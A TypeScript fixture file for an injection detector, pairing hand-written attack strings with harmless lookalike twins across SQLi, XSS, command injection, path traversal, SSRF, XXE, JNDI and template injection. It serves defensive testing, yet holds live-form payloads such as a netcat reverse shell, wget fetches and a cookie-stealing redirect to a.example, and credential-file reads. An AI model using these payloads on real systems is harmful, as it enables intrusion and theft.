import type { DetectionCategory } from '../../lib/detection/detection-category';

/** An attack and its harmless twin: the same words and signs, put to an honest use. */
export interface AttackPair {
  readonly category: DetectionCategory;
  readonly attack: string;
  readonly twin: string;
}

const pairs = (
  category: DetectionCategory,
  ...rows: (readonly [attack: string, twin: string])[]
): AttackPair[] => rows.map(([attack, twin]) => ({ category, attack, twin }));

/** Written by hand for this project. */
export const attackPairs: readonly AttackPair[] = [
  ...pairs(
    'sqli',
    ['9 %U%N%I%O%N %S%E%L%E%C%T pin %F%R%O%M cards', 'format %H%M%S of the %Y%m%d union, select one'],
    ['9||/**/8=8', 'a||/**/b'],
    ["mallory' OR 7=7 -- ", "Mallory's order of 7 or 8"],
    ['12 UNION ALL SELECT card, cvv FROM payments', 'the union of all selected cards'],
    ["x'; DROP TABLE invoices; --", 'drop the table; then the chairs'],
    ['(SELECT CASE WHEN (4=4) THEN 1 ELSE 0 END)', 'select the case when it arrives'],
    ["9' AND SLEEP(7) AND 'k'='k", "they're asleep (7 hours) and okay"],
    ['5/**/oR/**/8/**/lIkE/**/8', '5 or 8 like the others'],
    ["b' || (SELECT secret FROM vault LIMIT 1) || '", 'b || c means b or c'],
    ["3; EXEC master..xp_cmdshell 'whoami'", '3; executive summary'],
    ["' ORDER BY 9#", 'order by nine (#9)'],
    ['9; IF EXISTS (SELECT 5 FROM users) SHUTDOWN', '9; if it exists (5 of them), shut it down'],
    ["kim' or role is admin-- -", "the kids' or parents' room -- quiet"],
    ["kim', null, (pin) #", "kim's, no, (really) #1"],
    ['5) FROM users WHERE name=', '5) from where users stand'],
    ['kim or b=b', 'kim or b = c'],
    ['case when sin(1) then 5 end', 'in case it rains, when (1) then ends'],
    ['un/**/ion sel/**/ect pin', 'test/**/union.spec.ts'],
    ['char(0x61)||char(0x64)||char(0x6d)', 'char(10) || 6'],
    [') - sleep(9', ') - asleep (9'],
    ["\\'; desc users; --", "it\\'s desc; users --"],
  ),
  ...pairs(
    'nosqli',
    ['{"$gt": ""}', '{"gt": ""}'],
    ["x'; return this.role == 'admin'; var z='", "don't return this"],
    ['role[$ne]=guest', 'role[ne]=guest'],
  ),
  ...pairs(
    'xss',
    ["';steal(5)//", "it's; call (me)"],
    ['<script src=//a.example/k.js></script>', 'the script tag'],
    ['"><img src=q onerror=steal()>', '"> <img src="q.png" alt="on error">'],
    ["' autofocus onfocus=steal() '", "the 'autofocus' attribute focuses"],
    ['<a href="jav&#x09;ascript:steal()">x</a>', '<a href="https://example.com/javascript">x</a>'],
    ["';document.location='//a.example/'+document.cookie;'", "'document' and 'location' and 'cookie'"],
    ['<svg><animate onbegin=steal() attributeName=x>', 'svg animate on begin'],
    ['javascript:steal()', 'JavaScript: an introduction'],
    ['<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;">', '<i>frame</i> and <b>source</b>'],
    ['"data:text/html;base64,PGI+eDwvYj4=">', 'the type "data:text/html" is old'],
    ["' type=image src=q onerror=GO '", "'type' is image, and onerror is GO"],
    ["' style=a:expression(GO) '", "a 'style' of expression (mine)"],
    ['<b style="\\63 olor:red">x</b>', '<b style="color:red">x</b>'],
    ['"scriptdocument.cookie=1/script', 'src/script/document.js'],
    ['x=confirm</script><b>', 'the end of a script, <b>'],
    ['<script&k>go()</script&k>', '<scripts> & k'],
    ['--><a href="//a.example">x</a>', '<!-- a note --> see <a href="//a.example">x</a>'],
    ['<a href="//3232235777/">x</a>', '<a href="https://example.com/3232235777/">x</a>'],
    ['x autofocus>', 'the autofocus attribute'],
  ),
  ...pairs(
    'traversal',
    ['/./etc/././shadow', '/./etcetera/././shadows'],
    ['../../../../etc/passwd', '../images/passwd.png'],
    ['..%2f..%2f..%2fboot.ini', 'a..b..c'],
    ['....//....//....//etc/shadow', 'to be continued.... soon'],
    ['..\\..\\..\\windows\\win.ini', 'C:\\Users\\kate\\windows.doc'],
    ['/proc/self/environ', '/process/self/environment'],
  ),
  ...pairs(
    'inclusion',
    ['http://a.example/shell.txt?', 'http://a.example/help?topic=a'],
    ['https://a.example/c99.gif??', 'https://a.example/cat.gif'],
  ),
  ...pairs(
    'command',
    ['; tac<>/etc/hosts', '; cat <b>'],
    ['| w${q}get http://a.example/k', '| w${q}ord'],
    ["; $'\\x77get' http://a.example/k", "; $'five' each"],
    ['{wget,http://a.example/k}', '{cat,dog,bird}'],
    ['; ${PWD:0:1}bin${PWD:0:1}id', '; ${PWD} is where I am'],
    ['; wget http://a.example/x -O /tmp/x', 'wget; curl; and friends'],
    ['$(nc -e /bin/sh 198.51.100.7 9001)', 'costs $ (net)'],
    ['a | c\\at /e\\tc/hostname', 'a | category'],
    ['`id -a`', 'the `map` function'],
    ['& ping -c 9 127.0.0.1 &', 'ping & pong'],
    ["python3 -c 'import pty'", 'python3 is a language'],
  ),
  ...pairs(
    'php',
    ['<?php passthru($_GET[1]); ?>', '<?xml version="1.1"?>'],
    ['php://filter/read=convert.base64-encode/resource=x', 'https://php.example/filter'],
    ['O:6:"Logger":1:{s:4:"file";s:5:"x.php";}', 'O:6 is a score'],
  ),
  ...pairs(
    'node',
    ["require('child_process').execSync('x')", "require('express')"],
    ["global.process.mainModule.require('fs')", 'the global process'],
    ['{"__proto__":{"admin":true}}', '{"prototype":{"admin":true}}'],
  ),
  ...pairs(
    'java',
    ['${jndi:ldap://a.example/o}', '${amount} due'],
    ['${${::-j}${::-n}di:rmi://a.example/o}', '${name:-nobody}'],
    ['T(java.lang.Runtime).getRuntime()', 'the Java runtime'],
  ),
  ...pairs(
    'template',
    ['{{\n x.y()\n}}', '{{\n x.y\n}}'],
    ['{{- 9*9 -}}', '{{- nine -}}'],
    ['{{9*9}}', '{{ total }}'],
    ["{{''.__class__.__mro__[1].__subclasses__()}}", '{{ class_name }}'],
    ['<%= File.open("/x").read %>', '100 <% of all'],
    ['${"x".getClass().forName("y")}', '${className}'],
  ),
  ...pairs(
    'ssrf',
    ['http://169.254.169.254/latest/meta-data/', 'http://169.example/latest/'],
    ['http://[::ffff:7f00:1]/admin', 'http://example.com/admin'],
    ['http://2130706433/', 'http://example.com/2130706433'],
    ['gopher://cache.example:6379/_FLUSHALL', 'the gopher:protocol'],
    ['//169.254.169.254/latest/', '//169/latest/'],
  ),
  ...pairs(
    'xxe',
    ['<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>', '<!DOCTYPE html><html></html>'],
    ['<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///x"/></x>', 'include & exclude'],
  ),
  ...pairs(
    'ldap',
    ['kate:2.5.13.18:=7', 'kate := 7'],
    ['kate)(|(uid=*', 'kate (uid 7)'],
    ['*)(objectClass=*', '* (object class)'],
  ),
  ...pairs(
    'xpath',
    ["x' or count(//user)=3 or 'a'='b", 'count (users) or admins'],
    ["'] | //secret/*[1]", "['a'] | b"],
  ),
  ...pairs('ssi', ['<!--#exec cmd="ls" -->', '<!-- exec summary -->']),
  ...pairs(
    'crlf',
    ['en\r\nSet-Cookie: role=admin', 'en\r\nthe cookie is set'],
    ['x%0d%0aLocation:%20//a.example', 'x%20location%3A%20here'],
    ['kate@example.com\nBcc: all@example.com', 'kate@example.com\nback soon'],
  ),
  ...pairs(
    'sqli',
    ['-4 union values row(5,6,7)', 'credit union values (trust, care)'],
    ["kate' union table cards#", 'a table of the union'],
  ),
  ...pairs(
    'command',
    [';busybox nc 10.0.0.9 4444', 'a busybox; nice'],
    ['x;a=l;b=s;$a$b', 'x; a costs $b'],
    ['--use-askpass=/srv/x', '--use-colours=yes'],
    ['(New-Object Net.WebClient).DownloadString("x")', 'a new object of the web'],
  ),
  ...pairs(
    'template',
    ['{{printf "%s" .}}', '{{ .Name }}'],
    ['@System.IO.File.ReadAllText("x")', 'mail @system.example'],
  ),
  ...pairs(
    'java',
    ["cos\nsystem\n(S'ls'\ntR.", 'cos and sin'],
    ['["ch.qos.logback.core.db.DriverManagerConnectionSource",{}]', 'see ch.qos.logback.core.db'],
  ),
  ...pairs('traversal', ['orders.asp::$DATA', 'Orders::$data']),
  ...pairs('inclusion', ['\\\\10.9.8.7\\c$\\x', '\\\\fs01\\docs']),
];
